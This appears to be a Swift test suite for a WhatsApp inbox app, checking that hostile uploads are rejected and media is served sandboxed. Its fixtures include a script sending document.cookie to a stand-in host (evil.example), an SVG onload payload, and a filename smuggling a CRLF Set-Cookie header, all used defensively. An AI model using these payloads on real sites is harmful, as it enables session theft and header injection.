@testable import App
import Fluent
import Foundation
import NIOCore
import Testing
import Vapor
import VaporTesting
import WhatsAppSimulator

/// Files are the sender's bytes, never pages of our origin: an upload is kept only when its own
/// bytes are a type WhatsApp accepts, and every stored file, an agent's or a customer's, is served
/// with `nosniff`, a `sandbox` CSP, and as an attachment unless the thread shows it inline.
@Suite struct MediaSafetyTests {
    static let png = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]) + Data(repeating: 0x42, count: 2000)
    static let pdf = Data("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n".utf8)
    static let html = Data("<!doctype html><html><body><script>fetch('/api/v1/me')</script></body></html>".utf8)

    @Test func htmlScriptAndSVGUploadsAreRefusedWithAClearErrorAndNotKept() async throws {
        try await WhatsAppHarness.run { harness in
            let conversation = try await harness.conversation(of: "31600000401", name: "Jan")
            let attacks: [(filename: String, type: String, bytes: Data)] = [
                ("page.html", "text/html", Self.html),
                ("app.js", "text/javascript", Data("document.location='https://evil.example/?'+document.cookie".utf8)),
                ("logo.svg", "image/svg+xml", Data(#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#.utf8)),
                // The declared type and the name say PNG; the bytes say otherwise.
                ("photo.png", "image/png", Self.html),
                ("archive.zip", "application/octet-stream", Data([0x50, 0x4B, 0x03, 0x04]) + Data(repeating: 0, count: 100)),
            ]
            for attack in attacks {
                let response = try await upload(harness, conversation, filename: attack.filename, type: attack.type, bytes: attack.bytes)
                #expect(response.status == .unsupportedMediaType, "\(attack.filename) as \(attack.type): \(response.status)")
                #expect(response.body.string.contains("Not sent"), "the page says why")
            }
            let mismatch = try await upload(harness, conversation, filename: "page.html", type: "text/html", bytes: Self.html)
            #expect(mismatch.body.string.contains("text/html"), "names what the file claimed")
            #expect(try await harness.scope.query(Message.self).filter(\.$direction == .outbound).count() == 0)
            #expect(try uploadsKept(harness).isEmpty, "nothing refused is kept")

            let nl = Localizer(language: .nl, catalog: harness.app.context.catalog)
            #expect(MediaUploads.Refusal.mismatch(declared: "text/html", actual: "text/plain").message(nl).contains("het bestand zegt text/html"))
            #expect(MediaUploads.Refusal.unsupported.message(nl).contains("WhatsApp accepteert dit soort bestand niet"))
        }
    }

    @Test func aPNGIsSentAndShownInlineAndAPDFIsSentAndDownloaded() async throws {
        try await WhatsAppHarness.run { harness in
            let conversation = try await harness.conversation(of: "31600000402", name: "Jan")
            #expect(try await upload(harness, conversation, filename: "taart.png", type: "image/png", bytes: Self.png).status == .seeOther)
            // Browsers that know nothing of a file send application/octet-stream: the bytes decide.
            #expect(try await upload(harness, conversation, filename: "menu.pdf", type: "application/octet-stream", bytes: Self.pdf).status == .seeOther)
            let sent = try await harness.scope.query(Message.self).filter(\.$direction == .outbound).sort(\.$createdAt).all()
            let image = try #require(sent.first { $0.kind == "image" })
            let document = try #require(sent.first { $0.kind == "document" })
            #expect(document.mediaMimeType == "application/pdf")

            let shown = try await harness.owner.get("/media/\(image.id!)")
            #expect(shown.status == .ok)
            #expect(Data(buffer: shown.body) == Self.png)
            #expect(shown.headers.first(name: .contentType) == "image/png")
            #expect(shown.headers.first(name: .contentDisposition)?.hasPrefix("inline") == true)
            expectSandboxed(shown)

            let downloaded = try await harness.owner.get("/media/\(document.id!)")
            #expect(downloaded.headers.first(name: .contentType) == "application/pdf")
            #expect(downloaded.headers.first(name: .contentDisposition) == #"attachment; filename="menu.pdf""#)
            expectSandboxed(downloaded)
        }
    }

    @Test func aCustomersDocumentClaimingToBeHTMLIsServedAsASandboxedAttachment() async throws {
        try await WhatsAppHarness.run { harness in
            let wamid = try await harness.customer("31600000403", name: "Mallory")
                .send(.document(Self.html, mimeType: "text/html", filename: "in\"voice\r\nSet-Cookie: a=b; x=.html"))
            _ = try await harness.stored(wamid)
            try await harness.eventually("media stored") { try await harness.message(wamid: wamid)?.mediaState == .stored }
            let message = try #require(try await harness.message(wamid: wamid))

            let served = try await harness.owner.get("/media/\(message.id!)")
            #expect(served.status == .ok)
            #expect(served.headers.first(name: .contentType) == "application/octet-stream")
            // The customer's file name cannot end the header value or add a header of its own.
            #expect(served.headers.first(name: .contentDisposition) == #"attachment; filename="invoiceSet-Cookie ab x.html""#)
            #expect(served.headers.first(name: .setCookie) == nil)
            expectSandboxed(served)
        }
    }

    @Test func aSendRefusedAfterTheUploadLeavesNoFileBehind() async throws {
        try await WhatsAppHarness.run { harness in
            let conversation = try await harness.conversation(of: "31600000404", name: "Jan")
            harness.clock.advance(by: 24 * 3600 + 1)
            let refused = try await upload(harness, conversation, filename: "taart.png", type: "image/png", bytes: Self.png)
            #expect(refused.status == .unprocessableEntity)
            #expect(try uploadsKept(harness).isEmpty, "the window was closed: the upload is removed again")
        }
    }

    @Test func fileTypesAreRecognisedByTheirOwnBytes() {
        func type(_ bytes: [UInt8], _ declared: String? = nil, _ name: String = "file") -> MediaFileType? {
            MediaFileType.of(Data(bytes), declared: declared, filename: name)
        }
        let ascii = { (text: String) in Array(text.utf8) }
        #expect(type([0xFF, 0xD8, 0xFF, 0xE0]) == .jpeg)
        #expect(type(ascii("RIFF") + [0, 0, 0, 0] + ascii("WEBPVP8 ")) == .webp)
        #expect(type(ascii("#!AMR\n")) == .amr)
        #expect(type(ascii("OggS") + [0, 2]) == .ogg)
        #expect(type(ascii("ID3") + [4, 0]) == .mp3)
        #expect(type([0xFF, 0xFB, 0x90, 0x00]) == .mp3)
        #expect(type([0xFF, 0xF1, 0x50, 0x80]) == .aac)
        #expect(type([0, 0, 0, 0x20] + ascii("ftypisom")) == .mp4)
        #expect(type([0, 0, 0, 0x20] + ascii("ftypisom"), "audio/mp4") == .m4a)
        #expect(type([0, 0, 0, 0x20] + ascii("ftypM4A ")) == .m4a)
        #expect(type([0, 0, 0, 0x20] + ascii("ftyp3gp4")) == .threeGPP)
        #expect(type(ascii("%PDF-1.4")) == .pdf)
        let ole: [UInt8] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]
        #expect(type(ole, "application/vnd.ms-excel") == .xls)
        #expect(type(ole, nil, "notes.doc") == .doc)
        #expect(type(ole) == nil, "an Office file that does not say which")
        let zip: [UInt8] = [0x50, 0x4B, 0x03, 0x04]
        #expect(type(zip + ascii("[Content_Types].xml....word/document.xml")) == .docx)
        #expect(type(zip + ascii("[Content_Types].xml....xl/workbook.xml")) == .xlsx)
        #expect(type(zip + ascii("[Content_Types].xml....ppt/presentation.xml")) == .pptx)
        #expect(type(zip + ascii("evil.html")) == nil)
        #expect(type(ascii("Bestelling 17\r\nTwee broden\n")) == .text)
        #expect(type([0x00, 0x01, 0x02]) == nil, "binary is not text")
        #expect(type([0xC3, 0x28]) == nil, "invalid UTF-8 is not text")
        #expect(MediaFileType.normalized("Image/JPG; charset=binary") == "image/jpeg")
    }

    @Test func onlyImagesAudioAndVideoTheThreadShowsAreServedInline() {
        #expect(MediaController.presentation(mimeType: "image/png", kind: "image") == ("image/png", "inline"))
        #expect(MediaController.presentation(mimeType: "image/webp", kind: "sticker") == ("image/webp", "inline"))
        #expect(MediaController.presentation(mimeType: "audio/ogg; codecs=opus", kind: "audio") == ("audio/ogg", "inline"))
        #expect(MediaController.presentation(mimeType: "video/mp4", kind: "video") == ("video/mp4", "inline"))
        #expect(MediaController.presentation(mimeType: "image/png", kind: "document") == ("image/png", "attachment"))
        #expect(MediaController.presentation(mimeType: "application/pdf", kind: "document") == ("application/pdf", "attachment"))
        for hostile in ["text/html", "image/svg+xml", "text/javascript", "application/xhtml+xml", "text/xml"] {
            #expect(MediaController.presentation(mimeType: hostile, kind: "image") == ("application/octet-stream", "attachment"), "\(hostile)")
        }
    }

    // MARK: - Helpers

    private func expectSandboxed(_ response: TestingHTTPResponse, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(response.headers.first(name: "X-Content-Type-Options") == "nosniff", sourceLocation: sourceLocation)
        let csp = response.headers[.contentSecurityPolicy].joined(separator: ", ")
        #expect(csp.contains("sandbox"), "the media route's CSP survives the middleware: \(csp)", sourceLocation: sourceLocation)
        #expect(csp.contains("default-src 'none'"), "\(csp)", sourceLocation: sourceLocation)
    }

    /// Posts the composer's multipart form with one file, as a browser would.
    private func upload(_ harness: WhatsAppHarness, _ conversation: Conversation, filename: String, type: String, bytes: Data) async throws
        -> TestingHTTPResponse
    {
        _ = try await harness.owner.get("/inbox/\(conversation.id!)")
        let boundary = "----adsapp-media-test"
        var body = Data()
        body.append(Data("--\(boundary)\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n\(harness.owner.csrfToken ?? "")\r\n".utf8))
        body.append(Data("--\(boundary)\r\nContent-Disposition: form-data; name=\"file\"; filename=\"\(filename)\"\r\nContent-Type: \(type)\r\n\r\n".utf8))
        body.append(bytes)
        body.append(Data("\r\n--\(boundary)--\r\n".utf8))
        var headers = HTTPHeaders()
        headers.replaceOrAdd(name: .contentType, value: "multipart/form-data; boundary=\(boundary)")
        return try await harness.owner.send(.POST, "/inbox/\(conversation.id!)/messages", headers: headers, body: ByteBuffer(data: body))
    }

    /// The files under the object store's `uploads/` prefix (local disk in tests).
    private func uploadsKept(_ harness: WhatsAppHarness) throws -> [String] {
        let root = URL(fileURLWithPath: harness.app.context.configuration.dataDirectory).appendingPathComponent("media/objects/uploads")
        guard let walk = FileManager.default.enumerator(at: root, includingPropertiesForKeys: [.isRegularFileKey]) else { return [] }
        return walk.compactMap { $0 as? URL }.filter { (try? $0.resourceValues(forKeys: [.isRegularFileKey]).isRegularFile) == true }.map(\.path)
    }
}
